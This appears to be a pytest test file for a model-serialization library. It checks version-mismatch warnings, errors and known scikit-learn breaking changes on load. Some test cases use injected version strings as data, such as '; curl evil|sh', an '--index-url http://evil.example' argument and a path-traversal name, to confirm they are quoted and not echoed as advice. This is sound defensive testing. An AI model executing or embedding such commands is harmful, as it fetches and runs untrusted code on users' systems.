"""Which differences between versions are told, and which are errors."""

from __future__ import annotations

import json
import re
import warnings
from typing import Any

import msgspec
import numpy as np
import pytest
import sklearn
from sklearn.decomposition import KernelPCA
from sklearn.ensemble import AdaBoostClassifier, GradientBoostingRegressor
from sklearn.feature_extraction.text import TfidfTransformer, TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.tree import DecisionTreeClassifier

import vitrify
from tests.support.lying_writer import Lie
from vitrify.converters.sklearn import changes
from vitrify.errors import VersionError, VersionWarning
from vitrify.record import versions
from vitrify.record.versions import _installed, _minor

X = np.arange(12.0).reshape(6, 2)


def written_with(value: Any, **found: str) -> bytes:
    """The file of a value, by these versions."""
    lie = Lie(vitrify.dumps(value))
    record = json.loads(lie.metadata["record"])
    record["versions"] |= found
    lie.metadata["record"] = json.dumps(record, separators=(",", ":"))
    return lie.file()


class TestDifferences:
    def test_another_version_of_a_library_is_told(self) -> None:
        """Once, with all that differ; a library that is not here is not."""
        data = written_with([np.ones(2)], numpy="0.5.1", acme="7.0")
        with pytest.warns(VersionWarning) as caught:
            vitrify.loads(data)
        (told,) = caught
        assert str(told.message) == f"<bytes> was written with numpy 0.5.1 (here {np.__version__}); results may differ"
        with pytest.raises(VersionError) as refused:
            vitrify.loads(data, versions="error")
        assert refused.value.hint == 'Install the versions that vitrify lock lists, or load with versions="warn"'

    @pytest.mark.parametrize(
        ("stated", "shown"),
        [
            ("1.0 --index-url http://evil.example", "'1.0 --index-url http://evil.example', which is no version"),
            (f"{np.__version__}; curl evil|sh", f"'{np.__version__}; curl evil|sh', which is no version"),
            ("1.0\n\x1b", r"'1.0\n\x1b', which is no version"),
            ("2.0rc1.post3.dev4+local.5", "2.0rc1.post3.dev4+local.5"),
        ],
    )
    def test_what_is_no_version_is_quoted_and_no_advice(self, stated: str, shown: str) -> None:
        """Also where it begins like the version that is here (PEP 440)."""
        data = written_with([np.ones(2)], numpy=stated)
        with pytest.raises(VersionError) as caught:
            vitrify.loads(data, versions="error")
        said = f"<bytes> was written with numpy {shown} (here {np.__version__}); results may differ"
        assert caught.value.message == said
        advice = "Train again" if "no version" in shown else "Install the versions that vitrify lock lists"
        assert caught.value.hint == f'{advice}, or load with versions="warn"'

    def test_no_advice_repeats_a_version_that_is_none(self) -> None:
        """Nor where a change is known."""
        data = written_with(AdaBoostClassifier(n_estimators=2).fit(X, [0, 1, 2] * 2), sklearn="1.0 --pre")
        with pytest.raises(
            VersionError, match=r"^<bytes>: written with scikit-learn '1.0 --pre', which is no "
        ) as caught:
            vitrify.loads(data)
        assert (caught.value.path, caught.value.hint) == ("$.estimators_[0]", "Train again")

    def test_only_libraries_of_the_models_types_are_compared(self) -> None:
        """Whatever else the record names, though it is installed here."""
        data = written_with([np.ones(2)], pytest="0.1", pip="1.0; curl evil|sh", sklearn="0.9")
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            assert vitrify.loads(data, versions="error")[0].tolist() == [1.0, 1.0]

    def test_a_patch_release_is_none(self) -> None:
        """Nor are other versions of Python and vitrify."""
        same = ".".join(np.__version__.split(".")[:2]) + ".99"
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            vitrify.loads(written_with([np.ones(2)], numpy=same, python="2.7", vitrify="99.0"))

    def test_who_does_not_care_is_not_told(self) -> None:
        """Not even of known changes."""
        data = written_with(AdaBoostClassifier(n_estimators=2).fit(X, [0, 1] * 3), sklearn="0.1.0", numpy="0.1")
        assert vitrify.loads(data, versions="ignore").n_estimators == 2

    @pytest.mark.parametrize("policy", ["", "strict", None, True])
    def test_there_are_three_policies(self, policy: Any) -> None:
        """A misspelled one would pass for the default."""
        with pytest.raises(ValueError, match=r'^versions= is "warn", "error" or "ignore", got '):
            vitrify.loads(vitrify.dumps(1), versions=policy)


def change(**how: Any) -> changes.Change:
    """A change of logistic regression in 1.5, for those with more than two classes."""
    first = next(found for found in changes.CHANGES if "LogisticRegression" in "".join(found.types))
    given = {"since": (1, 5), "forward": True, "backward": True, "applies": lambda graph, table, row: row == 1}
    return msgspec.structs.replace(first, **(given | how))


class TestChanges:
    @pytest.mark.parametrize(
        ("old", "how", "is_refused"),
        [
            ("1.4.2", {}, True),
            ("1.5.0", {}, False),
            ("1.4.2", {"forward": False}, False),
            ("1.4.2", {"types": frozenset({"acme.A"})}, False),
            ("1.4.2", {"applies": lambda graph, table, row: False}, False),
            ("99.0", {"since": (98, 0)}, True),
            ("99.0", {"since": (98, 0), "backward": False}, False),
            ("97.0", {"since": (98, 0)}, False),
        ],
    )
    def test_a_known_change_is_an_error_where_it_applies(
        self, old: str, how: dict[str, Any], is_refused: bool, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Between the two versions, in its direction, for its types; with the path of the object."""
        monkeypatch.setattr(versions, "CHANGES", (change(**how),))
        models = [LogisticRegression().fit(X, [0, 1] * 3), LogisticRegression().fit(X, [1, 0] * 3)]
        data = written_with(models, sklearn=old)
        if not is_refused:
            with pytest.warns(UserWarning, match="results may differ"):
                assert len(vitrify.loads(data)) == 2
            return
        with pytest.raises(VersionError) as caught:
            vitrify.loads(data)
        expected = f"<bytes>: written with scikit-learn {old}, here is {sklearn.__version__}: since "
        assert caught.value.message.startswith(expected)
        assert caught.value.path == "$[1]"
        major, minor = old.split(".")[:2]
        assert caught.value.hint == f"Install scikit-learn {major}.{minor}.*, or train again"


def boosted(n_classes: int, **attributes: Any) -> AdaBoostClassifier:
    """A fitted one, with attributes that other versions had."""
    model = AdaBoostClassifier(LogisticRegression(), n_estimators=2).fit(X, np.arange(6) * n_classes // 6)
    vars(model).update(attributes)
    return model


def logistic(n_classes: int, **attributes: Any) -> LogisticRegression:
    """The same of logistic regression."""
    model = LogisticRegression().fit(X, np.arange(6) * n_classes // 6)
    vars(model).update(attributes)
    return model


KNOWN: list[tuple[str, Any, str | None]] = [
    ("1.3.2", DecisionTreeClassifier().fit(X, [0, 1] * 3), "trees held class counts"),
    ("1.5.0", boosted(2, algorithm="SAMME.R"), "the algorithm SAMME.R was removed"),
    ("1.5.0", boosted(2, algorithm="SAMME"), None),
    ("1.5.0", boosted(2, algorithm=["SAMME.R"]), None),
    ("1.5.0", boosted(3), None),
    ("1.2.0", boosted(3), "the decision function for several classes changed"),
    ("1.2.0", boosted(2), None),
    ("1.2.0", AdaBoostClassifier(), None),
    ("1.7.0", logistic(3, multi_class="ovr"), "the parameter multi_class is ignored"),
    ("1.7.0", logistic(3, solver="liblinear"), "the parameter multi_class is ignored"),
    ("1.7.0", logistic(2, multi_class="multinomial"), "the parameter multi_class is ignored"),
    ("1.7.0", logistic(2, multi_class="ovr"), None),
    ("1.7.0", logistic(3, multi_class="auto"), None),
    ("1.7.0", LogisticRegression(), None),
    ("1.4.0", TfidfTransformer().fit(X), "the inverse document frequencies are kept in another attribute"),
    ("1.4.0", TfidfVectorizer().fit(["red blue"]), "the inverse document frequencies are kept in another attribute"),
    ("1.4.0", TfidfTransformer(use_idf=False).fit(X), None),
    ("1.3.2", GradientBoostingRegressor(n_estimators=2).fit(X, X[:, 0]), "the loss, which turns sums of trees"),
    ("1.3.2", GradientBoostingRegressor(), None),
    ("1.2.2", KernelPCA(kernel="rbf", fit_inverse_transform=True).fit(X), None),
]
INVERSE = "inverse_transform takes gamma from the training data, and would take another"
KNOWN_BACKWARD: list[tuple[str, Any, str | None]] = [
    ("1.2.2", KernelPCA(kernel="rbf", fit_inverse_transform=True).fit(X), INVERSE),
    ("1.2.2", KernelPCA(kernel="rbf", fit_inverse_transform=True, gamma=0.5).fit(X), None),
    ("1.2.2", KernelPCA(kernel="rbf").fit(X), None),
    ("1.3.2", KernelPCA(kernel="rbf", fit_inverse_transform=True).fit(X), None),
    ("1.3.2", GradientBoostingRegressor(n_estimators=2).fit(X, X[:, 0]), "the loss, which turns sums of trees"),
    ("1.4.2", TfidfTransformer().fit(X), "the inverse document frequencies are kept in another attribute"),
]


@pytest.mark.parametrize(("old", "model", "what"), KNOWN)
def test_which_models_are_affected_is_read_from_their_attributes(old: str, model: Any, what: str | None) -> None:
    """Before anything is built; the others are loaded with a warning."""
    data = written_with({"m": model}, sklearn=old)
    if what is None:
        with pytest.warns(UserWarning, match="results may differ"):
            assert type(vitrify.loads(data)["m"]) is type(model)
        return
    with pytest.raises(VersionError, match=re.escape(what)) as caught:
        vitrify.loads(data)
    assert caught.value.path == "$['m']"


@pytest.mark.parametrize(("here", "model", "what"), KNOWN_BACKWARD)
def test_an_older_version_refuses_what_it_would_get_wrong(
    here: str, model: Any, what: str | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The other way round, as far as the change works both ways."""
    data = vitrify.dumps([model])
    written = sklearn.__version__
    monkeypatch.setattr(sklearn, "__version__", here)
    if what is None:
        with pytest.warns(UserWarning, match="results may differ"):
            assert type(vitrify.loads(data)[0]) is type(model)
        return
    with pytest.raises(VersionError, match=re.escape(what)) as caught:
        vitrify.loads(data)
    assert caught.value.path == "$[0]"
    assert caught.value.hint == f"Install scikit-learn {'.'.join(written.split('.')[:2])}.*, or train again"


class TestReading:
    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("1.4.2", (1, 4)),
            ("1.4", (1, 4)),
            ("1", (0, 0)),
            ("", (0, 0)),
            ("1.x", (1, 0)),
            ("१.२", (0, 0)),
            ("9" * 9 + ".1", (0, 1)),
        ],
    )
    def test_versions_are_read_as_far_as_they_are_numbers(self, text: str, expected: tuple[int, int]) -> None:
        """They come from a file; nothing is raised."""
        assert _minor(text) == expected

    @pytest.mark.parametrize("name", ["no_such_package_here", "a/../b", "pip\n", ""])
    def test_what_is_not_here_has_no_version(self, name: str) -> None:
        """Names come from a file, too, and never reach the file system as a path."""
        assert _installed(name) == ""

    def test_what_is_not_imported_has_that_of_its_package(self) -> None:
        """As its metadata say."""
        from importlib import metadata

        assert _installed("import_linter") == metadata.version("import-linter")
